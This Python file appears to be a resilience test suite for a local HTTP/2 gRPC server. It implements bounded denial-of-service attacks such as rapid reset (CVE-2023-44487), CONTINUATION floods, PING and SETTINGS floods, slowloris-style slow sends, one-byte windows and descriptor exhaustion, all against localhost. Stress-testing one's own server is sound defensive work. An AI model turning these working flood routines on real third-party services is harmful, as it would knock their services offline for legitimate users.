"""What strangers do to an open port, each bounded in size and time. An attack takes (port, sizes) and returns what it did, in words."""
import itertools
import random
import socket
import struct
import time
from dataclasses import dataclass

from frames import (ACK, CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, MAX_FRAME, PING, PREFACE,
                    RST_STREAM, SETTINGS, WINDOW_UPDATE, Connection, Gone, call, frame, literal, message, request_headers,
                    setting)

STRANGER = "127.0.0.2"
BATCH = 500


@dataclass(frozen=True)
class Attack:
    """How much of each."""
    resets: int
    floods: int          # PING and SETTINGS frames
    continuations: int
    header_mib: tuple
    idle: int
    slow: int            # connections that take their time
    slow_seconds: float
    connections: int     # that ask for, or send, as much as they can
    least_seconds: float # that a flood goes on, for others to notice
    seconds: float       # after which an attack gives up


QUICK = Attack(resets=20000, floods=50000, continuations=20000, header_mib=(1, 4), idle=2000, slow=100, slow_seconds=0.7,
               connections=50, least_seconds=0.5, seconds=10)
WHOLE = Attack(resets=200000, floods=500000, continuations=200000, header_mib=(1, 2, 4, 8, 16), idle=10000, slow=500,
               slow_seconds=15, connections=1000, least_seconds=3, seconds=60)


def repeat(port, sizes, wanted, batches, reads=True):
    """Sends what `batches()` yields until `wanted` are out and others had the time to notice, or the time is over; comes back whenever
    it is thrown out. Returns (sent, connections)."""
    begin = time.monotonic()
    least, end = begin + sizes.least_seconds, begin + sizes.seconds
    sent = connections = 0

    def is_over():
        return time.monotonic() > (least if sent >= wanted else end)

    while not is_over():
        connections += 1
        try:
            with Connection(port, STRANGER) as stranger:
                for batch in batches():
                    stranger.send(batch)
                    sent += BATCH
                    if is_over() or reads and not stranger.drain():
                        break
        except Gone:
            time.sleep(0.001)  # thrown out; nobody is asked to let us in again in no time
    return sent, connections


def rapid_reset(port, sizes):
    """CVE-2023-44487: calls that are cancelled as soon as they are made."""
    block = request_headers(b"UnaryCall")
    reset = struct.pack(">I", CANCEL)

    def batches():
        for first in range(1, 1 << 30, 2 * BATCH):
            yield b"".join(frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, reset)
                           for stream in range(first, first + 2 * BATCH, 2))

    return "%d resets over %d connections" % repeat(port, sizes, sizes.resets, batches)


def long_headers(port, sizes):
    """CVE-2023-33953: one header block of megabytes."""
    for mib in sizes.header_mib:
        field = literal(b"x-long", b"a" * 1000)
        block = request_headers(b"EmptyCall") + field * (mib * 1024 * 1024 // len(field))
        pieces = [block[i:i + MAX_FRAME] for i in range(0, len(block), MAX_FRAME)]
        try:
            with Connection(port, STRANGER) as stranger:
                stranger.send(frame(HEADERS, END_STREAM, 1, pieces[0]))
                for piece in pieces[1:-1]:
                    stranger.send(frame(CONTINUATION, 0, 1, piece))
                    stranger.drain()
                stranger.send(frame(CONTINUATION, END_HEADERS, 1, pieces[-1]))
                stranger.next_frame()
        except Gone:
            pass
    return f"header blocks of {sizes.header_mib} MiB"


def endless_continuation(port, sizes):
    """CVE-2024-27316: a header block that never ends, in small frames, some of them empty."""
    field = literal(b"x-more", b"a")
    batch = b"".join(frame(CONTINUATION, 0, 1, field if i % 2 else b"") for i in range(BATCH))

    def batches():
        yield frame(HEADERS, 0, 1, request_headers(b"EmptyCall")) + batch
        yield from itertools.repeat(batch)

    return "%d CONTINUATION over %d connections" % repeat(port, sizes, sizes.continuations, batches)


def ping_flood(port, sizes):
    """CVE-2019-9512: pings whose answers nobody reads."""
    batch = frame(PING, payload=b"12345678") * BATCH
    return "%d PING over %d connections" % repeat(port, sizes, sizes.floods, lambda: itertools.repeat(batch), reads=False)


def settings_flood(port, sizes):
    """CVE-2019-9515: settings whose answers nobody reads."""
    batch = frame(SETTINGS) * BATCH
    return "%d SETTINGS over %d connections" % repeat(port, sizes, sizes.floods, lambda: itertools.repeat(batch), reads=False)


def unknown_flood(port, sizes):
    """Frames of types that nobody knows, which a server has to pass over."""
    batch = frame(0xfa, payload=b"?") * BATCH
    return "%d frames over %d connections" % repeat(port, sizes, sizes.floods, lambda: itertools.repeat(batch), reads=False)


def dead_streams(port, sizes):
    """Headers, data and windows for streams that are over, which a server has to pass over, too."""
    block = request_headers(b"EmptyCall")
    rest = frame(DATA, 0, 1, b"?") + frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) + frame(HEADERS, END_HEADERS, 1, block)

    def batches():
        yield frame(HEADERS, END_HEADERS, 1, block) + frame(RST_STREAM, 0, 1, struct.pack(">I", CANCEL))
        yield from itertools.repeat(rest * (BATCH // 3))

    return "%d frames over %d connections" % repeat(port, sizes, sizes.floods, batches, reads=False)


def crumbs(port, sizes):
    """A message in frames of one byte."""
    block = request_headers(b"UnaryCall")
    byte = frame(DATA, 0, 1, b"\0") * BATCH

    def batches():
        yield frame(HEADERS, END_HEADERS, 1, block) + frame(DATA, 0, 1, struct.pack(">BI", 0, 4 * 1024 * 1024 - 16))
        yield from itertools.repeat(byte)

    return "%d DATA over %d connections" % repeat(port, sizes, sizes.floods, batches, reads=False)


def open_many(port, count, first_bytes=b""):
    """As many connections as there may be, one beside the other; those that are gone at once are not among them."""
    opened = []
    for _ in range(count):
        try:
            one = Connection(port, STRANGER, seconds=2)
        except Gone:
            if len(opened) < count // 2:
                time.sleep(0.001)
            continue
        try:
            one.send(first_bytes)
            opened.append(one)
        except Gone:
            one.close()
    return opened


def hold(port, sizes, what, first_bytes):
    """Many connections that send something and then wait."""
    opened = open_many(port, sizes.connections, first_bytes)
    time.sleep(sizes.slow_seconds)
    alive = sum(one.drain() for one in opened)
    close_all(opened)
    return f"{what} on {sizes.connections} connections, {alive} of them held"


def close_all(connections):
    for one in connections:
        one.close()


def idle_connections(port, sizes):
    """Thousands that say hello and nothing more."""
    opened = open_many(port, sizes.idle)
    time.sleep(1)
    alive = sum(one.drain() for one in opened)
    close_all(opened)
    return f"{alive} of {sizes.idle} idle connections held"


def tiny_windows(port, sizes):
    """CVE-2019-9511: large answers that are asked for and then taken one byte at a time."""
    large = b"\x10" + b"\x80\x80\x10"  # SimpleRequest.response_size: 256 KiB
    calls = b"".join(call(stream, b"UnaryCall", large) for stream in range(1, 201, 2))
    strangers = open_many(port, sizes.connections, frame(SETTINGS, payload=setting(INITIAL_WINDOW_SIZE, 1)) + calls)
    end = time.monotonic() + sizes.slow_seconds * 2
    taken = 0
    while time.monotonic() < end:
        for one in strangers:
            try:
                one.send(frame(WINDOW_UPDATE, 0, 1 + 2 * (taken % 100), struct.pack(">I", 1)))
                one.drain()
                taken += 1
            except Gone:
                pass
        time.sleep(0.01)
    close_all(strangers)
    return f"{100 * len(strangers)} answers of 256 KiB, {taken} bytes asked for"


def half_open(port, sizes):
    """Peers that stop in the middle: of the preface, of a frame, of their own side of the connection."""
    beginnings = (PREFACE[:7], PREFACE + frame(SETTINGS)[:4], PREFACE + frame(SETTINGS) + call(1, b"UnaryCall")[:40],
                  PREFACE + frame(SETTINGS) + frame(HEADERS, END_HEADERS, 1, request_headers(b"FullDuplexCall")))
    opened = []
    for i in range(sizes.slow):
        try:
            one = socket.create_connection(("127.0.0.1", port), timeout=2, source_address=(STRANGER, 0))
            one.sendall(beginnings[i % len(beginnings)])
            if i % 3 == 0:
                one.shutdown(socket.SHUT_WR)
            opened.append(one)
        except OSError:
            pass
    time.sleep(sizes.slow_seconds)
    close_all(opened)
    return f"{len(opened)} connections left in the middle"


def drip(port, sizes, start, rest):
    """Many connections that send one byte after the other."""
    opened = open_many(port, sizes.slow, start)
    end = time.monotonic() + sizes.slow_seconds
    at = 0
    while time.monotonic() < end:
        for one in opened:
            try:
                one.send(rest[at:at + 1])
            except Gone:
                pass
        at = min(at + 1, len(rest) - 2)
        time.sleep(0.05)
    close_all(opened)
    return f"{len(opened)} connections, a byte each every 50 ms"


def slow_headers(port, sizes):
    """Headers that take for ever."""
    whole = frame(HEADERS, END_HEADERS | END_STREAM, 1, request_headers(b"EmptyCall", literal(b"x-slow", b"a" * 10000)))
    return drip(port, sizes, whole[:20], whole[20:])


def slow_bodies(port, sizes):
    """A message that takes for ever, announced as large."""
    block = frame(HEADERS, END_HEADERS, 1, request_headers(b"UnaryCall"))
    announced = struct.pack(">BI", 0, 4 * 1024 * 1024 - 16)
    byte = frame(DATA, 0, 1, b"\0")
    return drip(port, sizes, block + frame(DATA, 0, 1, announced), byte * 500)


def begun_calls(rest):
    """A hundred calls whose headers are followed by what `rest` makes of the stream."""
    block = request_headers(b"UnaryCall")
    return b"".join(frame(HEADERS, END_HEADERS, stream, block) + rest(stream) for stream in range(1, 201, 2))


def announced_messages(port, sizes):
    """Large messages that are announced on every stream of many connections, and never sent."""
    announced = struct.pack(">BI", 0, 4 * 1024 * 1024 - 16)
    return hold(port, sizes, "100 messages of 4 MiB announced", begun_calls(lambda stream: frame(DATA, 0, stream, announced)))


def unfinished_messages(port, sizes):
    """Messages that are sent but for their end, as much of them as the windows let through."""
    begun = struct.pack(">BI", 0, 4 * 1024 * 1024 - 16) + bytes(8000)
    return hold(port, sizes, "100 messages begun", begun_calls(lambda stream: frame(DATA, 0, stream, begun)))


def kept_headers(port, sizes):
    """Calls with as much metadata as is taken, whose messages never come; behind them a block of headers that does not end."""
    block = request_headers(b"UnaryCall", literal(b"x-kept", b"a" * 15000))
    open_end = request_headers(b"UnaryCall", literal(b"x-open", b"a" * 60000))
    pieces = [open_end[i:i + MAX_FRAME] for i in range(0, 3 * MAX_FRAME, MAX_FRAME)]
    return hold(port, sizes, "50 calls of 15 KiB of headers",
                b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in range(1, 101, 2)) +
                frame(HEADERS, 0, 101, pieces[0]) + b"".join(frame(CONTINUATION, 0, 101, piece) for piece in pieces[1:]))


def untaken_replies(port, sizes):
    """Large answers to a peer whose windows are wide open, and who does not read."""
    large = b"\x10" + b"\x80\x80\x10"
    wide = frame(SETTINGS, payload=setting(INITIAL_WINDOW_SIZE, (1 << 31) - 1)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30))
    return hold(port, sizes, "100 answers of 256 KiB asked for",
                wide + b"".join(call(stream, b"UnaryCall", large) for stream in range(1, 201, 2)))


def open_streams(port, sizes):
    """Calls of a method that goes on as long as the client wants."""
    block = request_headers(b"FullDuplexCall")
    return hold(port, sizes, "100 open streams", b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in range(1, 201, 2)))


def garbage(port, sizes):
    """Random bytes behind the preface, frames with random headers, and no preface at all."""
    chance = random.Random(20261122)
    for i in range(sizes.slow * 2):
        try:
            with Connection(port, STRANGER) as stranger:
                if i % 2:
                    stranger.send(chance.randbytes(2000))
                else:
                    stranger.send(b"".join(frame(chance.randrange(12), chance.randrange(256), chance.randrange(8),
                                                 chance.randbytes(chance.randrange(60))) for _ in range(50)))
                stranger.drain()
        except Gone:
            pass
    return f"{sizes.slow * 2} connections of nonsense"


def descriptor_exhaustion(port, sizes):
    """CVE-2023-4785: more connections than the server has descriptors."""
    opened = open_many(port, 400, frame(SETTINGS, ACK) + call(1, b"EmptyCall", message()[:0]))
    time.sleep(0.5)
    close_all(opened)
    return f"{len(opened)} connections on {DESCRIPTORS} descriptors"


DESCRIPTORS = 200  # that the server has in the last one

ATTACKS = {
    "rapid reset": rapid_reset,
    "long header blocks": long_headers,
    "CONTINUATION without end": endless_continuation,
    "PING flood": ping_flood,
    "SETTINGS flood": settings_flood,
    "flood of unknown frames": unknown_flood,
    "frames on dead streams": dead_streams,
    "messages in crumbs": crumbs,
    "idle connections": idle_connections,
    "one-byte windows": tiny_windows,
    "half-open connections": half_open,
    "slow headers": slow_headers,
    "slow bodies": slow_bodies,
    "announced messages": announced_messages,
    "unfinished messages": unfinished_messages,
    "kept headers": kept_headers,
    "untaken replies": untaken_replies,
    "open streams": open_streams,
    "garbage": garbage,
    "descriptor exhaustion": descriptor_exhaustion,
}
